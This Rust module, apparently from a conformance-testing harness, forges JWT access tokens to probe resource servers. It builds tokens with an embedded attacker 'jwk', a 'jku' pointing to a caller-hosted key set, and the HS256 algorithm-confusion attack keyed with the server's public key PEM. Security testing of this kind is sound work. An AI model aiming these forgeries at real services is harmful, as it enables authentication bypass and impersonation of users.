//! Deliberately wrong JWS access tokens: the claims of a real token, re-signed in the ways a
//! careless resource server accepts (RFC 8725 §2). Each is refused by a resource server that
//! picks its key by `kid` from the authorization server's JWK set and insists on that key's
//! algorithm. Pure functions; the caller hosts any key set a token points at.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use ring::hmac;
use ring::rand::SystemRandom;
use ring::signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, KeyPair};
use serde_json::{Map, Value, json};

/// The kid of the harness's own keys: no authorization server publishes it.
pub const PROBE_KID: &str = "authspec-probe-key";

/// The DER prefix of a P-256 SubjectPublicKeyInfo, before the 65-byte point.
const P256_SPKI_PREFIX: [u8; 26] = [
    0x30, 0x59, 0x30, 0x13, 0x06, 0x07, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x02, 0x01, 0x06, 0x08, 0x2a,
    0x86, 0x48, 0xce, 0x3d, 0x03, 0x01, 0x07, 0x03, 0x42, 0x00,
];

/// A fresh P-256 key of the harness's own, made for one token.
pub struct ProbeKey {
    pair: EcdsaKeyPair,
    rng: SystemRandom,
}

impl ProbeKey {
    pub fn generate() -> Option<ProbeKey> {
        let rng = SystemRandom::new();
        let pkcs8 = EcdsaKeyPair::generate_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, &rng).ok()?;
        let pair = EcdsaKeyPair::from_pkcs8(&ECDSA_P256_SHA256_FIXED_SIGNING, pkcs8.as_ref(), &rng)
            .ok()?;
        Some(ProbeKey { pair, rng })
    }

    /// The public key as a JWK under [`PROBE_KID`].
    pub fn public_jwk(&self) -> Value {
        let point = self.pair.public_key().as_ref();
        json!({
            "kty": "EC",
            "crv": "P-256",
            "use": "sig",
            "alg": "ES256",
            "kid": PROBE_KID,
            "x": URL_SAFE_NO_PAD.encode(point.get(1..33).unwrap_or_default()),
            "y": URL_SAFE_NO_PAD.encode(point.get(33..65).unwrap_or_default()),
        })
    }

    /// `payload` (base64url claims) signed ES256 under `header`.
    pub fn sign(&self, header: &Value, payload: &str) -> Option<String> {
        let input = format!("{}.{payload}", URL_SAFE_NO_PAD.encode(header.to_string()));
        let signature = self.pair.sign(&self.rng, input.as_bytes()).ok()?;
        Some(format!(
            "{input}.{}",
            URL_SAFE_NO_PAD.encode(signature.as_ref())
        ))
    }
}

/// The header of a compact JWS, when it is one.
pub fn header_of(token: &str) -> Option<Map<String, Value>> {
    let b = URL_SAFE_NO_PAD.decode(token.split('.').next()?).ok()?;
    match serde_json::from_slice(&b).ok()? {
        Value::Object(m) => Some(m),
        _ => None,
    }
}

/// `payload` under an unknown kid, signed by the harness's key, which the header embeds as
/// `jwk`: only a resource server that does not look keys up by kid accepts it.
pub fn unknown_kid(key: &ProbeKey, payload: &str) -> Option<String> {
    let header =
        json!({"alg": "ES256", "typ": "at+jwt", "kid": PROBE_KID, "jwk": key.public_jwk()});
    key.sign(&header, payload)
}

/// `payload` signed by the harness's key, whose JWK set the header points at by `jku`.
pub fn with_jku(key: &ProbeKey, payload: &str, jku: &str) -> Option<String> {
    let header = json!({"alg": "ES256", "typ": "at+jwt", "kid": PROBE_KID, "jku": jku});
    key.sign(&header, payload)
}

/// `payload` as HS256, keyed with the PEM (SubjectPublicKeyInfo) of the P-256 key `kid` names in
/// `jwks` (a JWK set, or its `keys` array): the algorithm-confusion attack. `None` when the set
/// has no such EC key.
pub fn hs256_with_public_key(jwks: &Value, kid: Option<&str>, payload: &str) -> Option<String> {
    let keys = jwks.get("keys").unwrap_or(jwks).as_array()?;
    let key = keys
        .iter()
        .filter(|k| k.get("kty").and_then(Value::as_str) == Some("EC"))
        .find(|k| kid.is_none() || k.get("kid").and_then(Value::as_str) == kid)?;
    let coordinate = |m: &str| {
        URL_SAFE_NO_PAD
            .decode(key.get(m)?.as_str()?)
            .ok()
            .filter(|b| b.len() == 32)
    };
    let mut spki = P256_SPKI_PREFIX.to_vec();
    spki.push(0x04);
    spki.extend(coordinate("x")?);
    spki.extend(coordinate("y")?);
    let pem = pem("PUBLIC KEY", &spki);
    let mut header = json!({"alg": "HS256", "typ": "at+jwt"});
    if let (Some(kid), Value::Object(h)) = (key.get("kid"), &mut header) {
        h.insert("kid".into(), kid.clone());
    }
    let input = format!("{}.{payload}", URL_SAFE_NO_PAD.encode(header.to_string()));
    let tag = hmac::sign(
        &hmac::Key::new(hmac::HMAC_SHA256, pem.as_bytes()),
        input.as_bytes(),
    );
    Some(format!("{input}.{}", URL_SAFE_NO_PAD.encode(tag.as_ref())))
}

/// PEM armour (RFC 7468): base64 in lines of 64 characters, each line ended.
fn pem(label: &str, der: &[u8]) -> String {
    let body = STANDARD.encode(der);
    let mut out = format!("-----BEGIN {label}-----\n");
    for chunk in body.as_bytes().chunks(64) {
        out.push_str(&String::from_utf8_lossy(chunk));
        out.push('\n');
    }
    out.push_str(&format!("-----END {label}-----\n"));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forgeries_carry_the_payload_and_the_promised_header() {
        let key = ProbeKey::generate().expect("key");
        let payload = URL_SAFE_NO_PAD.encode(r#"{"sub":"x"}"#);
        let t = unknown_kid(&key, &payload).expect("token");
        assert_eq!(t.split('.').nth(1), Some(payload.as_str()));
        let h = header_of(&t).expect("header");
        assert_eq!(h["kid"], json!(PROBE_KID));
        assert_eq!(h["jwk"]["kty"], json!("EC"));
        let t = with_jku(&key, &payload, "http://127.0.0.1:1/jwks.json").expect("token");
        assert_eq!(
            header_of(&t).expect("header")["jku"],
            json!("http://127.0.0.1:1/jwks.json")
        );

        let set = json!({"keys": [key.public_jwk()]});
        let t = hs256_with_public_key(&set, Some(PROBE_KID), &payload).expect("token");
        assert_eq!(header_of(&t).expect("header")["alg"], json!("HS256"));
        assert!(hs256_with_public_key(&set, Some("other"), &payload).is_none());
        assert!(
            hs256_with_public_key(&json!({"keys": [{"kty": "RSA"}]}), None, &payload).is_none()
        );
        assert!(hs256_with_public_key(&json!("junk"), None, &payload).is_none());
    }
}
